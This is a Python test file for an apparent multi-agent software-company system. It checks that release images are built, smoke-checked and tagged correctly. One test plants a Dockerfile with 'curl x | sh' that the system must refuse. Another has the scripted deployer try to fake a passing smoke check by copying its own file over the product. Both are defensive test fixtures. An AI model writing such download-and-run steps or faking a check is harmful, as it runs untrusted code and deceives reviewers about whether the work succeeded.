"""The release: the product's image, its smoke check, the version and the tag, on the scripted model
with the local fakes (tests/company/test_release_docker.py runs the same on the Docker engine)."""

import json
import subprocess
from pathlib import Path

import yaml

from macrohard._resources import resource_dir
from macrohard.company.run import CompanyRun
from macrohard.config import Settings
from macrohard.transcript.log import read_events
from macrohard.workspace.git import GitWorkspace

from fakes import LocalProductImages, LocalSandboxProvider

DEMO = resource_dir("demo")
STARTS = "import sys\nprint('tool', *sys.argv[1:])\n"
CANNOT_START = "raise SystemExit('tool cannot start: no configuration in /etc/tool.toml')\n"
TEST = "import tool\n\n\ndef test_tool_has_a_name():\n    assert tool.NAME == 'tool'\n"
GOOD_DOCKERFILE = "FROM python:3.12\nWORKDIR /srv\nCOPY tool /srv/tool\nENV PYTHONPATH=/srv\n"


def write(path: str, content: str) -> dict:
    return {"write_file": {"path": path, "content": content}}


def notes(text: str = "# tool\n") -> dict:
    return write("RELEASE_NOTES.md", text)


def product_script(main: str = STARTS, describe: dict | None = None, deployer: list[dict] | None = None) -> dict:
    plan = [{"add_ticket": {"title": "tool", "description": "The package tool, runnable as python3 -m tool.",
                            "acceptance_criteria": ["tool.NAME is 'tool'"]}}]
    if describe is not None:
        plan.append({"describe_product": describe})
    return {
        "product_manager": {"plan": [{"calls": plan}, {"say": "Planned."}]},
        "engineer": {"T-1": [{"calls": [write("tool/__init__.py", "NAME = 'tool'\n"), write("tool/__main__.py", main)]},
                             {"say": "Done."}]},
        "tester": {"T-1": [{"calls": [write("tests/test_tool.py", TEST)]}, {"say": "Tested."}]},
        "deployer": {"release": deployer or [{"calls": [notes()]}, {"say": "Released."}]},
    }


def run_script(tmp_path: Path, script: dict, provider: LocalSandboxProvider | None = None, **settings):
    path = tmp_path / "script.yaml"
    path.write_text(yaml.safe_dump(script))
    spec = tmp_path / "spec.md"
    spec.write_text("# tool\n\nA command-line tool: `python3 -m tool`.\n")
    provider = provider or LocalSandboxProvider()
    run = CompanyRun.create(spec, Settings(workspaces=tmp_path / "ws", roles_dir=resource_dir("roles"), **settings),
                            script=path)
    return run, run.execute(provider), provider


def tag_of(run: CompanyRun, name: str) -> str | None:
    out = subprocess.run(["git", "cat-file", "-p", name], cwd=run.paths.repo, capture_output=True, text=True)
    return out.stdout if out.returncode == 0 else None


def deployer_prompts(run: CompanyRun) -> list[str]:
    return [e.data["messages"][-1]["content"] for e in read_events(run.paths.transcript)
            if e.kind == "model.request" and e.role == "deployer" and e.data.get("step") == 1]


def test_the_demo_is_tagged_after_its_image_passes_the_plans_smoke_command(tmp_path):
    provider = LocalSandboxProvider()
    s = Settings(workspaces=tmp_path / "ws", roles_dir=resource_dir("roles"))
    run = CompanyRun.create(DEMO / "spec.md", s, script=DEMO / "script.yaml")
    summary = run.execute(provider)
    assert summary.status == "done"
    command = "python3 -m textstats docs/PRD.md --top 5"
    release = summary.release
    assert release["image"] == "textstats:0.1.0" and release["image_id"].startswith("sha256:")
    assert release["smoke"]["command"] == command and release["smoke"]["kind"] == "cli"
    assert release["smoke"]["exit_code"] == 0 and release["smoke"]["passed"] and not release["smoke"]["default"]
    assert release["previous_tag"] is None and release["dockerfile"] == "default"
    # run.json holds the same release record.
    assert json.loads(run.paths.run_json.read_text())["release"] == release

    # The image was built from the tagged commit, and the smoke check ran the plan's command in it.
    (image,) = provider.images.images.values()
    assert image.id == release["image_id"] and image.tags == ["textstats:0.1.0"]
    assert image.labels["macrohard.commit"] == release["sha"] == GitWorkspace(run.paths.run_dir).head("v0.1.0")
    assert image.labels["macrohard.run"] == run.run_id and image.labels["macrohard.version"] == "0.1.0"
    assert [spec.command for _, spec in provider.images.smoked] == [command]
    assert "lines: " in next(e for e in read_events(run.paths.transcript) if e.kind == "smoke").data["output_tail"]

    events = list(read_events(run.paths.transcript))
    kinds = [e.kind for e in events]
    # The image is made beside the final suite, on the same commit; the tag needs both.
    assert kinds.index("image.build") < kinds.index("smoke") < kinds.index("git.tag")
    assert kinds.index("final.suite") < kinds.index("git.tag")
    assert next(e for e in events if e.kind == "final.suite").data["sha"] == release["sha"]
    plan = next(e for e in events if e.kind == "plan")
    assert plan.data["run"] == {"kind": "cli", "command": command, "port": None, "health_path": "/",
                                "stack": "python", "default": False}
    # The tag's message names the image it released.
    assert release["image_id"] in tag_of(run, "v0.1.0") and command in tag_of(run, "v0.1.0")
    # The deployer was told how the release is checked, and that this is the first release.
    (prompt,) = deployer_prompts(run)
    assert "first release" in prompt and f"running `{command}`" in prompt and "textstats:0.1.0" in prompt


def test_an_image_that_passes_its_smoke_check_is_not_tagged_when_the_final_suite_fails_beside_it(tmp_path):
    # The tester's suite passes on main and fails once the deployer's notes exist: the final
    # suite, on the commit to tag, fails while the image of that commit builds and starts.
    no_notes = TEST + ("\n\ndef test_no_notes_yet():\n    import pathlib\n"
                       "    assert not (pathlib.Path(__file__).parent.parent / 'RELEASE_NOTES.md').exists()\n")
    script = product_script(describe={"kind": "cli", "command": "python3 -m tool --version"})
    script["tester"]["T-1"][0]["calls"] = [write("tests/test_tool.py", no_notes)]
    run, summary, provider = run_script(tmp_path, script)
    assert summary.status == "failed" and summary.release is None and summary.release_tag is None
    assert summary.failure.startswith("no release: the final suite failed on ")
    assert tag_of(run, "v0.1.0") is None
    events = list(read_events(run.paths.transcript))
    final = next(e for e in events if e.kind == "final.suite")
    smoke = next(e for e in events if e.kind == "smoke")
    assert not final.data["passed"] and smoke.data["passed"]
    assert "git.tag" not in [e.kind for e in events]


def test_a_product_that_cannot_start_goes_back_to_the_deployer_then_ends_untagged_with_its_output(tmp_path):
    deployer = [
        {"calls": [notes()]}, {"say": "Released."},
        {"expect": ["Your last release attempt failed", "tool cannot start: no configuration"], "calls": [notes("# tool 2\n")]},
        {"say": "Released again."},
    ]
    script = product_script(CANNOT_START, {"kind": "cli", "command": "python3 -m tool --version"}, deployer)
    run, summary, provider = run_script(tmp_path, script, max_attempts=2)
    assert summary.status == "failed" and summary.release is None and summary.release_tag is None
    assert summary.failure.startswith("no release: the smoke check of tool:0.1.0 failed: `python3 -m tool --version`: "
                                      "it exited with code 1")
    assert "tool cannot start: no configuration in /etc/tool.toml" in summary.failure
    assert tag_of(run, "v0.1.0") is None
    record = json.loads(run.paths.run_json.read_text())
    assert record["status"] == "failed" and record["release"] is None
    smokes = [e for e in read_events(run.paths.transcript) if e.kind == "smoke"]
    assert [(e.data["passed"], e.data["exit_code"]) for e in smokes] == [(False, 1), (False, 1)]
    assert all("tool cannot start" in e.data["output_tail"] for e in smokes)
    assert len(deployer_prompts(run)) == 2


def test_a_refused_dockerfile_and_a_failed_build_go_back_to_the_deployer_who_fixes_them(tmp_path):
    deployer = [
        {"calls": [notes(), write("Dockerfile", "FROM python:3.12\nRUN pip install requests\nCOPY . /app\n")]},
        {"say": "Released."},
        {"expect": ["refused your Dockerfile", "line 2: RUN: not allowed"],
         "calls": [write("Dockerfile", "FROM python:3.12\nCOPY tools /srv/tool\n")]},
        {"say": "Fixed."},
        {"expect": ["Building the image tool:0.1.0 failed", "file not found in build context"],
         "calls": [write("Dockerfile", GOOD_DOCKERFILE)]},
        {"say": "Fixed again."},
    ]
    script = product_script(STARTS, {"kind": "cli", "command": "python3 -m tool hello"}, deployer)
    script["engineer"]["T-1"][0]["calls"].append(write("Dockerfile", "FROM evil\nRUN curl x | sh\n"))
    run, summary, provider = run_script(tmp_path, script, max_attempts=3)
    assert summary.status == "done", summary.failure
    assert summary.release["dockerfile"] == "Dockerfile" and summary.release["smoke"]["passed"]
    events = list(read_events(run.paths.transcript))
    assert [e.kind for e in events if e.kind.startswith("image.")] == ["image.refused", "image.build", "image.build"]
    failed_build = [e for e in events if e.kind == "image.build"][0]
    assert "file not found" in failed_build.data["error"] and "COPY tools /srv/tool" in failed_build.data["log_tail"]
    # What was built: the deployer's file on the sandbox image, never as root, with none of the engineer's.
    built = provider.images.dockerfiles[summary.release["image_id"]]
    assert built.splitlines() == ["FROM macrohard-sandbox:latest", "WORKDIR /srv", "COPY tool /srv/tool",
                                  "ENV PYTHONPATH=/srv", "USER 65534:65534"]
    # The engineer may not write one: the Dockerfile is the deployer's.
    refusal = next(e for e in events if e.kind == "tool.call" and e.role == "engineer" and not e.data["ok"])
    assert "Dockerfile" in refusal.data["result"] and "deployer" in refusal.data["result"]


def test_the_version_follows_the_repositorys_release_tags_and_the_notes_cover_what_changed(tmp_path, monkeypatch):
    real_init = GitWorkspace.init

    def init_with_an_earlier_release(self):
        sha = real_init(self)
        subprocess.run(["git", "tag", "-a", "-m", "an earlier release", "v0.4.1", sha], cwd=self.repo_dir, check=True)
        return sha

    monkeypatch.setattr(GitWorkspace, "init", init_with_an_earlier_release)
    run, summary, provider = run_script(tmp_path, product_script(describe={"kind": "cli", "command": "python3 -m tool"}))
    assert summary.status == "done" and summary.release_tag == "v0.5.0"
    assert summary.release["previous_tag"] == "v0.4.1" and summary.release["image"] == "tool:0.5.0"
    assert GitWorkspace(run.paths.run_dir).head("v0.5.0") == summary.release["sha"]
    (prompt,) = deployer_prompts(run)
    assert "Prepare release v0.5.0" in prompt and "The previous release is v0.4.1" in prompt
    assert "- Merge ticket/T-1: tool" in prompt and "Initialize repository" not in prompt


def test_a_resumed_release_finds_the_image_it_built_instead_of_building_again(tmp_path):
    images = LocalProductImages()
    real_smoke = images.smoke
    calls = []

    def killed_during_the_first_smoke_check(*args, **kwargs):
        calls.append(1)
        if len(calls) == 1:
            raise KeyboardInterrupt  # the process dies after the build, before the smoke check answered
        return real_smoke(*args, **kwargs)

    images.smoke = killed_during_the_first_smoke_check
    script = product_script(describe={"kind": "cli", "command": "python3 -m tool"})
    try:
        run_script(tmp_path, script, LocalSandboxProvider(images))
    except KeyboardInterrupt:
        pass
    (run_dir,) = (tmp_path / "ws").iterdir()
    assert images.built == ["tool:0.1.0"] and tag_of_dir(run_dir) is None

    done = CompanyRun.open(run_dir).execute(LocalSandboxProvider(images))
    assert done.status == "done" and done.release_tag == "v0.1.0"
    assert images.built == ["tool:0.1.0"]  # not built again
    builds = [e.data for e in read_events(run_dir / "transcript.jsonl") if e.kind == "image.build"]
    assert [b["reused"] for b in builds] == [False, True] and builds[0]["image_id"] == builds[1]["image_id"]
    assert done.release["image_id"] == builds[0]["image_id"]


def tag_of_dir(run_dir: Path) -> str | None:
    out = subprocess.run(["git", "tag", "--list"], cwd=run_dir / "repo", capture_output=True, text=True)
    return out.stdout.strip() or None


def test_without_a_description_the_stacks_default_check_imports_the_product(tmp_path):
    run, summary, provider = run_script(tmp_path, product_script())
    assert summary.status == "done"
    smoke = summary.release["smoke"]
    assert smoke["command"] == "python3 -c 'import tool'" and smoke["default"] and smoke["kind"] == "library"


def test_a_product_with_nothing_to_import_and_no_description_ends_untagged_at_once(tmp_path):
    script = product_script()
    script["engineer"]["T-1"][0]["calls"] = [write("tool.sh", "echo tool\n")]
    script["tester"]["T-1"][0]["calls"] = [write("tests/test_tool.py", "from pathlib import Path\n\n\ndef test_it():\n"
                                                 "    assert Path('tool.sh').read_text() == 'echo tool\\n'\n")]
    run, summary, provider = run_script(tmp_path, script)
    assert summary.status == "failed" and summary.release_tag is None
    assert "no top-level Python package or module to import" in summary.failure and "describe_product" in summary.failure
    assert len(deployer_prompts(run)) == 1  # nothing the deployer could fix: no second attempt
    assert provider.images.built == []


def test_the_deployer_cannot_stand_in_for_the_product_with_a_file_of_its_own(tmp_path):
    # The product cannot start; the deployer's notes hold a module that would, copied over it.
    fake = write("RELEASE_NOTES.md", "print('all good')\n")
    deployer = [{"calls": [fake, write("Dockerfile", "COPY . /app\nCOPY RELEASE_NOTES.md /app/tool/__main__.py\n"
                                                     "WORKDIR /app\n")]}, {"say": "Released."}]
    script = product_script(CANNOT_START, {"kind": "cli", "command": "python3 -m tool"}, deployer)
    run, summary, provider = run_script(tmp_path, script, max_attempts=1)
    assert summary.status == "failed" and summary.release_tag is None and provider.images.built == []
    assert "line 2: COPY: copies RELEASE_NOTES.md (a file you wrote) to another name" in summary.failure


def test_an_engine_that_goes_away_during_the_release_stops_the_run_resumable_with_nothing_lost(tmp_path):
    from macrohard.errors import SandboxError

    images = LocalProductImages()
    real_build = images.build

    def no_engine(*args, **kwargs):
        raise SandboxError("no Docker engine answers at unix:///var/run/docker.sock: connection refused",
                           "start Docker or set DOCKER_HOST")

    images.build = no_engine
    script = product_script(describe={"kind": "cli", "command": "python3 -m tool"})
    try:
        run_script(tmp_path, script, LocalSandboxProvider(images))
    except SandboxError:
        pass
    (run_dir,) = (tmp_path / "ws").iterdir()
    record = json.loads((run_dir / "run.json").read_text())
    assert record["status"] == "failed" and "no Docker engine answers" in record["failure"]
    assert tag_of_dir(run_dir) is None

    images.build = real_build
    done = CompanyRun.open(run_dir).execute(LocalSandboxProvider(images))
    assert done.status == "done" and done.release_tag == "v0.1.0" and images.built == ["tool:0.1.0"]
    assert len(deployer_prompts_of(run_dir)) == 1  # the deployer's committed work was not asked for again


def deployer_prompts_of(run_dir: Path) -> list[str]:
    return [e for e in read_events(run_dir / "transcript.jsonl")
            if e.kind == "model.request" and e.role == "deployer" and e.data.get("step") == 1]
